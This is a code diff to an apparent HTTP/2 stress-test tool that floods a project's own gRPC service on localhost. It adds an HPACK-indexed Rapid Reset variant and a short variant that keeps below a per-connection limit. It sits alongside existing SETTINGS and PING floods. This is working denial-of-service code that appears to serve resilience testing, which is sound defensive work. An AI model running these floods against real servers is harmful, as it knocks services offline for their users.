@@ -8,6 +8,7 @@ status. The process has the lowest priority, so that it takes what the stack lea
 from __future__ import annotations
 
 import asyncio
+import itertools
 import os
 import resource
 import socket
@@ -33,7 +34,9 @@ _FRAME_BYTES = 16_384
 _MESSAGE_BYTES = 16 * 2**20
 CHECK = "/grpc.health.v1.Health/Check"
 _GENERATE = "/triptych.api.v1.InferenceService/Generate"
+_FIRST_PLACE = 62  # of HPACK's table, that of the newest entry
 _BATCH = 100  # frames of a write
+_SHORT_BATCHES = 70  # of a connection that keeps below the limit of one
 _CONNECT_S = 20.0
 _RETRY_S = 0.1
 _AT_ONCE = 128  # connections that are being opened
@@ -45,16 +48,20 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
-def header(name: str, value: str) -> bytes:
-    """A header of less than 127 bytes that is in no table."""
-    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+def header(name: str, value: str, *, is_kept: bool = False) -> bytes:
+    """A header of less than 127 bytes that is in no table, and is put into HPACK's if it is kept."""
+    first = b"\x40" if is_kept else b"\0"
+    return first + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
 
 
-def call_headers(path: str = CHECK) -> bytes:
+def call_headers(path: str = CHECK, *, are_kept: bool = False) -> bytes:
     """The headers of a gRPC call without a key."""
+    return b"".join(header(name, value, is_kept=are_kept) for name, value in _call_pairs(path).items())
+
+
+def _call_pairs(path: str) -> dict[str, str]:
     pairs = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost"}
-    pairs |= {"content-type": "application/grpc", "te": "trailers"}
-    return b"".join(header(name, value) for name, value in pairs.items())
+    return pairs | {"content-type": "application/grpc", "te": "trailers"}
 
 
 def resets(first: int, count: int, path: str = CHECK) -> bytes:
@@ -62,6 +69,18 @@ def resets(first: int, count: int, path: str = CHECK) -> bytes:
     block = call_headers(path)
     return b"".join(
         frame(HEADERS, _END_HEADERS, stream, block) + frame(RESET, 0, stream, _CANCEL)
+        for stream in range(first, first + 2 * count, 2)
+    )
+
+
+def indexed_resets(first: int, count: int, path: str = CHECK) -> bytes:
+    """The same with 28 bytes for each: the first call of a connection puts the headers into HPACK's table."""
+    whole = call_headers(path, are_kept=True)
+    places = range(_FIRST_PLACE, _FIRST_PLACE + len(_call_pairs(path)))
+    indexed = bytes(0x80 | place for place in reversed(places))
+    return b"".join(
+        frame(HEADERS, _END_HEADERS, stream, whole if stream == 1 else indexed)
+        + frame(RESET, 0, stream, _CANCEL)
         for stream in range(first, first + 2 * count, 2)
     )
 
@@ -119,6 +138,16 @@ def _rapid_resets(index: int) -> Chunks:
     yield _begun()
     for first in range(1, 2**31 - 2 * _BATCH, 2 * _BATCH):
         yield resets(first, _BATCH, _path(index))
+
+
+def _indexed_resets(index: int) -> Chunks:
+    yield _begun()
+    for first in range(1, 2**31 - 2 * _BATCH, 2 * _BATCH):
+        yield indexed_resets(first, _BATCH, _path(index))
+
+
+def _short_resets(index: int) -> Chunks:
+    return itertools.islice(_indexed_resets(index), _SHORT_BATCHES)
 
 
 def _repeated(content: bytes) -> Callable[[int], Chunks]:
@@ -194,6 +223,8 @@ _SETTINGS_FRAME = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))
 _PING_FRAME = frame(PING, 0, 0, b"\0" * 8)
 HTTP2 = {
     "rapid reset": Flood(32, _rapid_resets),
+    "rapid reset, indexed": Flood(32, _indexed_resets),
+    "rapid reset, short": Flood(2, _short_resets, resets=True),
     "SETTINGS": Flood(32, _repeated(_SETTINGS_FRAME * _BATCH)),
     "SETTINGS, unread": Flood(32, _repeated(_SETTINGS_FRAME * _BATCH), reads=False),
     "PING": Flood(32, _repeated(_PING_FRAME * _BATCH)),
